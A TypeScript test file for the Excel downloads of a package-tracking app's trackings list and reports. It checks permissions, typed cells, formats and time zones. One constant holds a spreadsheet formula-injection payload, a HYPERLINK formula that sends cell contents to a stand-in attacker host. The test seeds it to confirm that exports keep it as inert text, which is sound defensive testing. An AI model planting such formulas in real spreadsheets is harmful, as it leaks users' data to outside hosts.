// The Excel downloads of the trackings list and of the reports (docs/product/formats.md#csv): the
// same access as the CSV, a bold frozen header without the CSV's "punto decimal", money as numbers
// with two decimals, dates as date cells, and text, even text that looks like a formula, as text.
import fastifyCookie from '@fastify/cookie';
import ExcelJS from 'exceljs';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import {
  REPORT_XLSX_PATH,
  SESSION_COOKIE_NAME,
  TRACKINGS_CSV_PATH,
  csvNumberHeader,
  spreadsheetPath,
} from '@casillero/shared';
import type { Database } from '../db/client';
import { mailboxes, trackings } from '../db/schema';
import { testConfig, type Config } from '../env';
import { createServer } from '../server';
import { createTestDatabase } from '../test/db';
import { signedInAdmin, signedInCustomer, signedInStaff } from '../test/factories';
import { rowValues, xlsxSheetOf } from '../test/xlsx';
import { registerExportRoutes } from './exports';
import { sendXlsxDownload } from './xlsx-download';

const FORMULA = `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`;

let database: Database;
let config: Config;
let server: Awaited<ReturnType<typeof createServer>>;
let small: FastifyInstance;
let admin: Awaited<ReturnType<typeof signedInAdmin>>;
let customer: Awaited<ReturnType<typeof signedInCustomer>>;

beforeAll(async () => {
  database = await createTestDatabase();
  config = testConfig({ appUrl: 'http://localhost:3000' });
  server = await createServer({ config, database });
  // Batches of two, so the workbook is written across several of them.
  small = Fastify();
  await small.register(fastifyCookie);
  await registerExportRoutes(small, { db: database.db, config, batchSize: 2 });
  admin = await signedInAdmin(database.db);
  customer = await signedInCustomer(database.db, { nombre: 'Ana Zamora' });
  const [mailbox] = await database.db
    .update(mailboxes)
    .set({ status: 'active' })
    .where(eq(mailboxes.userId, customer.user.id))
    .returning({ id: mailboxes.id });
  await database.db.insert(trackings).values(
    Array.from({ length: 5 }, (_, i) => ({
      trackingNumber: `XLS000${i + 1}`,
      userId: customer.user.id,
      mailboxId: mailbox!.id,
      description: 'Zapatos',
      senderName: 'Nike',
      carrier: i === 0 ? FORMULA : 'UPS',
      estimatedWeight: 1.25,
      estimatedValueUsdCents: 123450 + i,
      createdAt: new Date('2026-03-01T15:30:00Z'),
    })),
  );
});
afterAll(async () => {
  await small?.close();
  await server?.stop();
  await database?.close();
});

const get = (app: FastifyInstance, url: string, token: string | null) =>
  app.inject({ method: 'GET', url, cookies: token ? { [SESSION_COOKIE_NAME]: token } : {} });

const TRACKINGS_XLSX = spreadsheetPath(TRACKINGS_CSV_PATH, 'xlsx');

describe('GET /api/exports/trackings.xlsx', () => {
  it('refuses visitors and customers, as the CSV does', async () => {
    expect((await get(server.app, TRACKINGS_XLSX, null)).statusCode).toBe(401);
    const forbidden = await get(server.app, TRACKINGS_XLSX, customer.visitor.token);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.headers['content-disposition']).toBeUndefined();
  });

  it('writes every row across batches with typed cells and the formula-like carrier as text', async () => {
    const res = await get(small, `${TRACKINGS_XLSX}?sort=trackingNumber&dir=asc`, admin.visitor.token);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="trackings_\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const sheet = await xlsxSheetOf(res, [
      'Tracking',
      'Cliente',
      'Casillero',
      'Estado',
      'Transportista',
      'Peso estimado (kg)',
      'Valor estimado (USD)',
      'Prioridad',
      'Fecha',
    ]);
    expect(sheet.rowCount).toBe(1 + 5);
    expect([2, 3, 4, 5, 6].map((r) => sheet.getRow(r).getCell(1).value)).toEqual([
      'XLS0001',
      'XLS0002',
      'XLS0003',
      'XLS0004',
      'XLS0005',
    ]);
    const row = sheet.getRow(2);
    const [, , , , carrier, weight, value, , date] = rowValues(sheet, 2);
    // Text stays the text it was, never a formula, and needs no apostrophe.
    expect(carrier).toBe(FORMULA);
    expect(row.getCell(5).type).toBe(ExcelJS.ValueType.String);
    expect(typeof weight).toBe('number');
    expect(weight).toBe(1.25);
    expect(typeof value).toBe('number');
    expect(value).toBe(1234.5);
    expect(row.getCell(7).numFmt).toBe('#,##0.00');
    // 15:30 UTC is 11:30 in Caracas: the cell shows the business's clock.
    expect(date).toBeInstanceOf(Date);
    expect((date as Date).toISOString()).toBe('2026-03-01T11:30:00.000Z');
    expect(row.getCell(9).numFmt).toBe('dd/mm/yyyy hh:mm');
    // Wide enough for the content, and bounded.
    expect(sheet.getColumn(2).width).toBeGreaterThanOrEqual(`Ana Zamora <${customer.email}>`.length);
    expect(sheet.getColumn(5).width).toBeLessThanOrEqual(60);
  });
});

describe('GET /api/exports/reporte.xlsx', () => {
  it('gives staff who read reports a sheet per block, figures as numbers and the period as dates', async () => {
    expect((await get(server.app, REPORT_XLSX_PATH, null)).statusCode).toBe(401);
    const almacen = await signedInStaff(database.db, 'almacen');
    expect((await get(server.app, REPORT_XLSX_PATH, almacen.visitor.token)).statusCode).toBe(403);

    const res = await get(server.app, `${REPORT_XLSX_PATH}?period=month`, admin.visitor.token);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="reporte_[a-z-]+_\d{4}-\d{2}-\d{2}\.xlsx"$/,
    );
    const first = await xlsxSheetOf(res, ['Reporte', 'Periodo', 'Desde', 'Hasta', 'Comparado con']);
    expect(first.getRow(2).getCell(3).value).toBeInstanceOf(Date);
    const workbook = first.workbook;
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Reporte',
      'Indicadores',
      'Clientes principales',
      'Últimos meses',
      'Estados',
    ]);
    const figures = workbook.getWorksheet('Indicadores')!;
    expect(rowValues(figures, 1)).toEqual(['Indicador', 'Periodo actual', 'Periodo anterior', 'Variación (%)']);
    expect(rowValues(figures, 1)).not.toContain(csvNumberHeader('Periodo actual'));
    expect(typeof figures.getRow(2).getCell(2).value).toBe('number');
    expect(figures.getRow(2).getCell(2).numFmt).toBe('#,##0.00');
    expect(figures.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    // Five trackings, in the "Estados" counts as whole numbers.
    const states = workbook.getWorksheet('Estados')!;
    const counts = states.getColumn(3).values.slice(2) as number[];
    expect(counts.filter((n) => typeof n === 'number').reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(5);
  });
});

describe('sendXlsxDownload', () => {
  it('reads the first batch before answering, so a failing query answers an error, not a broken file', async () => {
    const app = Fastify();
    app.get('/x.xlsx', (_req, reply) =>
      sendXlsxDownload(reply, {
        filename: 'x.xlsx',
        sheet: 'X',
        headers: ['A'],
        // biome-ignore lint/correctness/useYield: a query that fails before its first rows
        batches: (async function* (): AsyncGenerator<string[][]> {
          throw new Error('consulta fallida');
        })(),
        cells: (row) => row,
      }),
    );
    const res = await app.inject({ url: '/x.xlsx' });
    expect(res.statusCode).toBe(500);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    await app.close();
  });
});
